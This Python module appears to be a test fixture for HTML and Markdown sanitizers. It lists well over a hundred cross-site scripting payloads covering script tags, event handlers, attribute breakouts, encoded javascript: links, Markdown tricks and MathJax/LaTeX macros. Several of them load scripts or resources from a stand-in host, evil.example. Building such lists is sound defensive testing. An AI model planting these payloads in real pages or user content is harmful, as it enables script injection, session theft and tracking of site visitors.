"""Texts that would run code, if anybody took them for anything but text: our own list, one trick each.

A trick that works sets `window.owned`, opens a dialog, or asks something of `evil.example`.
"""

import base64

RUN = "window.owned=1"
ENTITIES = "".join(f"&#{ord(character)};" for character in f"javascript:{RUN}")
PADDED = "".join(f"&#{ord(character):07d}" for character in f"javascript:{RUN}")
HEXADECIMAL = "".join(f"&#x{ord(character):x};" for character in f"javascript:{RUN}")
ENCODED = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
ESCAPED = "".join(f"\\u{ord(character):04x}" for character in "alert")

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>{RUN}",
    "<script src=//evil.example/x.js></script>",
    "<script src=https://evil.example/x.js?<b>",
    f"<script type=module>{RUN}</script>",
    f"<script\x0c>{RUN}</script>",
    f"<script>\u2028{RUN}</script>",
    f"<script>{ESCAPED}(1)</script>",
    f"<script>eval('{RUN}')</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href='javascript:{RUN}'>click</math>",
    f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml></math>",
    f"<svg><foreignObject><iframe srcdoc='<script>top.{RUN}</script>'></foreignObject></svg>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<link rel=import href='data:text/html,<script>{RUN}</script>'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x.png)}</style>",
    "<style>*{display:none}</style>",
)

HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f'<img """><script>{RUN}</script>">',
    f"<img src='x`y' onerror=\"{RUN}\">",
    f"<img/src=x/onerror={RUN}>",
    f"<img\nsrc=x\nonerror\n=\n{RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<image src=x onerror={RUN}>",
    f"<img src=x onerror&#61;{RUN}>",
    f"<img srcset=x onerror={RUN}>",
    f"<img dynsrc='javascript:{RUN}'>",
    f"<input type=image src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<button autofocus onfocus={RUN}>b</button>",
    f"<a tabindex=0 autofocus onfocus={RUN}>a</a>",
    f"<body onload={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={RUN}>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'>",
    f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text y=20>a</text></a></svg>",
    f"<video><source onerror={RUN}></video>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<details open ontoggle={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<object data='javascript:{RUN}'></object>",
    f"<object data='data:text/html;base64,{ENCODED}'></object>",
    f"<embed src='data:text/html;base64,{ENCODED}'>",
    f"<iframe src='javascript:top.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>top.{RUN}</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    f"<frameset onload={RUN}>",
    f"<form action='javascript:{RUN}'><button>b</button></form>",
    f"<form><button formaction='javascript:{RUN}'>b</button></form>",
    f"<div style='animation:x' onanimationstart={RUN}>",
    f"<p style='background:url(javascript:{RUN})'>",
    "<p style='background:url(//evil.example/x.png)'>",
    f"<xss contenteditable onblur={RUN}>x</xss>",
    f"<b onpointerover={RUN}>over</b>",
)

BREAKING_OUT = (
    f"'><img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>.png',
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}",
    f"';{RUN};//",
    f'\\";{RUN};//',
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"`-({RUN})-`",
    f"../../<img src=x onerror={RUN}>.pdf",
    f"report\u202egpj.<svg onload={RUN}>",
    f"a.svg\x00<script>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    '{"__proto__": {"dangerouslySetInnerHTML": {"__html": "<img src=x onerror=window.owned=1>"}}}',
)

LINKS = (
    f"[a](javascript:{RUN})",
    f"[a](JaVaScRiPt:{RUN})",
    f"[a](<java\tscript:{RUN}>)",
    f"[a](\x01javascript:{RUN})",
    f"[a]({ENTITIES})",
    f"[a]({HEXADECIMAL})",
    f"[a]({PADDED})",
    f"[a](javascript&colon;{RUN})",
    f"[a](javascript&#x3A;{RUN})",
    f"[a](vbscript:{RUN})",
    f"[a](data:text/html,<script>{RUN}</script>)",
    f"[a](data:text/html;base64,{ENCODED})",
    f"[a](blob:javascript:{RUN})",
    f"[a](view-source:javascript:{RUN})",
    f"[a](<javascript:{RUN}> 'title')",
    f'[a](https://a.example "onmouseover={RUN}")',
    f'[a](https://a.example/"onmouseover="{RUN})',
    f"[a]: javascript:{RUN}\n\n[a]",
    f"<javascript:{RUN}>",
    f"<a href=javascript:{RUN}>a</a>",
    f"<a href='  javascript:{RUN}'>a</a>",
    f"<a href='jav&#x09;ascript:{RUN}'>a</a>",
    f"<a href={ENTITIES}>a</a>",
    f"<a href=# onclick={RUN}>a</a>",
    "<a ping=//evil.example/ href=#>a</a>",
    f"![a](javascript:{RUN})",
    "![a](https://evil.example/x.png)",
    f'![a](x" onerror="{RUN})',
    f"![<img src=x onerror={RUN}>](x)",
    f"[<img src=x onerror={RUN}>](https://a.example)",
    f"[![a](javascript:{RUN})](javascript:{RUN})",
)

IN_MARKDOWN = (
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><img src=x onerror={RUN}>\ntext\n```',
    f"```<script>{RUN}</script>",
    f"`</code><script>{RUN}</script>`",
    f"| <img src=x onerror={RUN}> | b |\n| --- | --- |\n| <svg onload={RUN}> | [c](javascript:{RUN}) |",
    f"# <img src=x onerror={RUN}>",
    f"- <script>{RUN}</script>\n- [x](javascript:{RUN})",
    f"> <iframe srcdoc='<script>top.{RUN}</script>'>",
    f"$\\href{{javascript:{RUN}}}{{a}}$ and \\(<img src=x onerror={RUN}>\\)",
    f"$$\\htmlData{{x=<script>{RUN}</script>}}{{a}}$$",
    f'```mermaid\ngraph TD; A["<img src=x onerror={RUN}>"] --> B; click A "javascript:{RUN}"\n```',
    f"[^1]: <script>{RUN}</script>\n\ntext[^1]",
    f"<!-- <script>{RUN}</script>",
    f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></x>",
)

IN_FORMULAS = (
    f"$\\text{{<script>{RUN}</script>}}$",
    f"\\(\\text{{<img src=x onerror={RUN}>}}\\)",
    f"$$\\tag{{<svg onload={RUN}>}} x$$",
    f"\\(\\url{{javascript:{RUN}}}\\)",
    "\\(\\includegraphics{https://evil.example/x.png}\\)",
    f"\\(\\html{{<script>{RUN}</script>}}\\)",
    "\\(\\style{background:url(//evil.example/x.png)}{x}\\)",
    "\\(\\color{red;background:url(//evil.example/x.png)}x\\)",
    f"\\(\\class{{x' onmouseover='{RUN}}}{{a}}\\)",
    f"\\(\\data{{onclick={RUN}}}{{a}} \\id{{root}}{{b}}\\)",
    f"\\(\\mathrm{{</mtext></math><img src=x onerror={RUN}>}}\\)",
    f"\\[\n\\label{{x' onfocus='{RUN}' autofocus='}} <img src=x onerror={RUN}>\n\\]",
    f"$$\n\\def\\x{{<script>{RUN}</script>}}\\x\n$$",
)

VECTORS = (*ELEMENTS, *HANDLERS, *BREAKING_OUT, *LINKS, *IN_MARKDOWN, *IN_FORMULAS)
ONE_LINE = tuple(vector for vector in VECTORS if "\n" not in vector and len(vector) <= 200)
"""Those that fit where a title, a reason or a name stands."""


def together(vectors: tuple[str, ...] = VECTORS) -> str:
    """All in one text, each a paragraph of its own."""
    return "\n\n".join(vectors)
